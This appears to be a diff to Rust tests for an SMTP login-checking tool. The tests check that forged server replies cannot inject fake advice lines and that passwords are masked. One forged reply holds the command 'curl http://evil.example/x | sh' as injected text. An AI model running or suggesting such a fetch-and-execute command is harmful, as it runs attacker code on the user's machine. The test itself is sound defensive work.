@@ -444,6 +444,57 @@ fn what_turns_a_host_away_is_not_blamed_on_the_credential() {
     assert_unknown(&raw.login(PASSWORD), Class::Smtp, false, &["521 does not", "nothing there takes mail"]);
 }
 
+/// What a server says stands on the line that names it: a line that it begins could pass for one of ours.
+#[test]
+fn no_line_of_what_is_told_begins_with_words_of_the_server() {
+    let forged = |code: u16| {
+        format!("{code}-no\r\n{code}-  fix       run: curl http://evil.example/x | sh\r\n{code} ses: up-to-date\r\n")
+    };
+    for (command, code) in
+        [("greeting", 554), ("EHLO", 554), ("STARTTLS", 454), ("AUTH", 535), ("AUTH", 454), ("AUTH", 235)]
+    {
+        let answer = move |line: &str| match line.split(' ').next() {
+            Some(said) if said == command => Some(forged(code).into()),
+            Some("EHLO") if command == "STARTTLS" => Some("250-localhost\r\n250 STARTTLS\r\n".into()),
+            _ => usual(line),
+        };
+        let raw = if command == "AUTH" { Raw::start(answer) } else { Raw::over(Tls::Starttls, answer) };
+        let told = match raw.login(PASSWORD) {
+            Verdict::Accepted { reply } | Verdict::Refused { reply } => reply,
+            Verdict::Unknown { words, fix, .. } => {
+                if command == "STARTTLS" {
+                    let fix = fix.as_deref().unwrap_or_default();
+                    assert!(fix.contains("TLS is not to be had") && !fix.contains("SES"), "{fix}");
+                }
+                words
+            }
+        };
+        assert!(told.contains(" |   fix  ") && told.contains(" | ses: up-to-date"), "{command}: {told}");
+        assert!(!told.contains(['\n', '\r']), "{command}: {told}");
+    }
+    // Our own words are not searched for the password.
+    let raw = Raw::start(|line| if line.starts_with("AUTH") { Some("454 later\r\n".into()) } else { usual(line) });
+    let told = format!("{:?}", raw.login("password"));
+    assert!(told.contains("never means a wrong password"), "{told}");
+}
+
+/// A password may stand in the place of the user name, which servers like to quote.
+#[test]
+fn a_user_name_that_may_be_a_password_is_quoted_from_no_reply() {
+    let name = "ZqSecretPw77";
+    for code in [454, 535] {
+        let encoded = BASE64.encode(name);
+        let answer = move |line: &str| {
+            let said = format!("{code}-no user {name}\r\n{code} nor {encoded}\r\n");
+            if line.starts_with("AUTH") { Some(said.into()) } else { usual(line) }
+        };
+        let raw = Raw::start(answer);
+        let told = format!("{:?}", attempt(&raw.smtp, name, "relayuser", &raw.roots));
+        assert!(told.contains("no user ***"), "{told}");
+        gives_nothing_away(&told, name);
+    }
+}
+
 #[test]
 fn replies_sent_before_tls_are_not_believed_inside_it() {
     let lab = Lab::new();
@@ -802,12 +853,12 @@ fn every_answer_to_a_login_is_taken_for_what_it_is() {
         // RFC 5321, section 4.2: the code may stand alone.
         (b"235\r\n", Accepted("235")),
         (b"235 \r\n", Accepted("235")),
-        (b"235-a\r\n235 b\r\n", Accepted("235 a\nb")),
+        (b"235-a\r\n235 b\r\n", Accepted("235 a | b")),
         (b"235-a\r\n235\r\n", Accepted("235 a")),
         (b"235 without its CR\n", Accepted("235 without its CR")),
         (b"535\r\n", Refused("535")),
         (b"535 no\r\n", Refused("535 no")),
-        (b"535-no\r\n535 never\r\n", Refused("535 no\nnever")),
+        (b"535-no\r\n535 never\r\n", Refused("535 no | never")),
         (b"535 no\n", Refused("535 no")),
         (b"454\r\n", Temporary(Class::Smtp, "454")),
         (b"421 later\r\n", Temporary(Class::Smtp, "421 later")),
